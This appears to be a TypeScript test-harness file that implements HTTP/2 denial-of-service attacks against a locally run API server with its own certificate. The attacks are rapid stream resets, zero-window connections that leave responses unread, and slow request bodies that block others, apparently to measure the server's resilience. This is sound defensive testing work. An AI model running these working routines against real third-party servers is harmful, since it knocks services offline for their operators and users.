import { rmSync } from 'node:fs'
import { dirname } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { attackArgs, attackPreparations } from '../../test/harness/attacks/preparations.ts'
import { openCertificateAuthority } from '../../test/harness/openCertificateAuthority.ts'
import { openHttp2 } from '../../test/harness/openHttp2.ts'
import { flag, frame, frameType, openRawHttp2, type RawHttp2, requestHeaders } from '../../test/harness/openRawHttp2.ts'
import { type HeadersOf, numbers, records } from '../../test/harness/realtimeAttack.ts'
import type { OpenAttack } from './MeasuredAttack.ts'

interface Target {
  port: number
  ca: string
}

/** Runs an attack on a server with a certificate of its own. */
const overHttps =
  (attack: (target: Target, headersOf: HeadersOf) => Promise<unknown>): OpenAttack =>
  async () => {
    const { ca, issue } = await openCertificateAuthority()
    const { certificate, key } = await issue(['localhost'])
    const removeFiles = () => rmSync(dirname(certificate), { recursive: true, force: true })
    process.once('exit', removeFiles)
    return {
      attack: ({ port }, headersOf) => attack({ port, ca }, headersOf),
      preparations: [...attackPreparations, { sql: recordOf60Kilobytes }],
      args: [...attackArgs, '--https', '127.0.0.1:0', '--certificate', certificate, '--key', key],
      ca,
      close: () => {
        process.off('exit', removeFiles)
        removeFiles()
      },
    }
  }

/** Encodes a text for HPACK (RFC 7541, sections 5.1 and 5.2), without compression. */
function encodeText(text: string): Buffer {
  const bytes = Buffer.from(text)
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes])
  const length = [127]
  let rest = bytes.length - 127
  for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128)
  return Buffer.concat([Buffer.from([...length, rest]), bytes])
}

/** Encodes a GET request with headers of any length, such as a token. */
function encodeGet(path: string, headers: Record<string, string>): Buffer {
  const lines = Object.entries(headers).flatMap(([name, value]) => [
    Buffer.from([0]),
    encodeText(name.toLowerCase()),
    encodeText(value),
  ])
  return Buffer.concat([requestHeaders('GET', path), ...lines])
}

const startOf = (stream: number, request: Buffer): Buffer =>
  frame(frameType.headers, flag.endHeaders | flag.endStream, stream, request)

const batchMs = 10
const maxBatches = 50
/** The code of `RST_STREAM` for a canceled request. */
const cancel = Buffer.from([0, 0, 0, 8])

/** Sends requests and cancels them at once, until the server closes the connection. */
async function resetRapidly({ port, ca }: Target, headers: Record<string, string>): Promise<void> {
  const connection = await openRawHttp2(port, ca)
  const request = encodeGet('/api/collections/posts/records?perPage=500&expand=author', headers)
  let stream = 1
  for (let batch = 0; batch < maxBatches && !connection.isClosed(); batch += 1) {
    const frames = numbers(100).flatMap(number => {
      const id = stream + 2 * number
      return [startOf(id, request), frame(frameType.rstStream, 0, id, cancel)]
    })
    stream += 200
    connection.send(...frames)
    await wait(batchMs)
  }
  connection.close()
}

const recordOf60Kilobytes = `INSERT INTO scratch (id, t) VALUES ('medium000000001', printf('%.*c', 60000, 'x'))`

const unreadMs = 1_000
const maxAnswerMs = 30_000
const pollMs = 20
const noWindow = frame(frameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))

/** Waits until each request has a status or was rejected, or the connection is closed. */
async function untilAnswered(connection: RawHttp2, requests: number): Promise<void> {
  const isAnswer = ({ type, stream }: RawHttp2['received'][number]) =>
    stream > 0 && (type === frameType.headers || type === frameType.rstStream)
  const endsAt = performance.now() + maxAnswerMs
  while (!connection.isClosed() && performance.now() < endsAt) {
    if (connection.received.filter(isAnswer).length >= requests) return
    await wait(pollMs)
  }
}

/** Sends requests over several connections, over which the server must not send any body. */
async function leaveUnread(
  { port, ca }: Target,
  { connections, requests, headersOf, path }: { connections: number; requests: number; headersOf: HeadersOf; path: string },
): Promise<void> {
  const opened = await Promise.all(numbers(connections).map(() => openRawHttp2(port, ca)))
  for (const [number, connection] of opened.entries()) {
    const frames = numbers(requests).map(index =>
      startOf(2 * index + 1, encodeGet(`${path}number=${number * requests + index}`, headersOf(number))),
    )
    connection.send(noWindow, ...frames)
  }
  await Promise.all(opened.map(connection => untilAnswered(connection, requests)))
  await wait(unreadMs)
  for (const connection of opened) connection.close()
}

/** Bytes that a client can send of a body before the server reads it. */
const windowBytes = 128 * 1024
/** Requests of a connection that the server handles at the same time. */
const maxHandled = 32

/** Opens a connection with bodies that the server reads but hardly arrive, and with full bodies that have to wait for them. */
async function sendUnreadBodies({ port, ca }: Target, headers: Record<string, string>): Promise<void> {
  const connection = await openHttp2(port, ca)
  const start = (part: string | Buffer) =>
    connection.start('POST', `/api/${records}`, { ...headers, 'content-type': 'application/json' }, true).write(part)
  for (const _ of numbers(maxHandled)) start('{')
  for (const _ of numbers(64)) start(Buffer.alloc(windowBytes, 0x20))
  await wait(unreadMs)
  connection.close()
}

/** Attacks over HTTP/2. Other clients use HTTPS with HTTP/1.1. */
export const http2Attacks: Record<string, OpenAttack> = {
  'HTTP/2: rapid resets': overHttps((target, headersOf) =>
    Promise.all(numbers(10).map(number => resetRapidly(target, headersOf(number)))),
  ),
  'HTTP/2: 50 pages of 30 MB that are left unread': overHttps((target, headersOf) => {
    const path = `/api/${records}?perPage=30&filter=id~%22large%22&`
    return leaveUnread(target, { connections: 10, requests: 5, headersOf, path })
  }),
  'HTTP/2: 5,000 responses of 60 KB that are left unread': overHttps((target, headersOf) =>
    leaveUnread(target, { connections: 50, requests: 100, headersOf, path: `/api/${records}/medium000000001?` }),
  ),
  'HTTP/2: bodies that wait for others': overHttps((target, headersOf) =>
    Promise.all(numbers(20).map(number => sendUnreadBodies(target, headersOf(number)))),
  ),
}
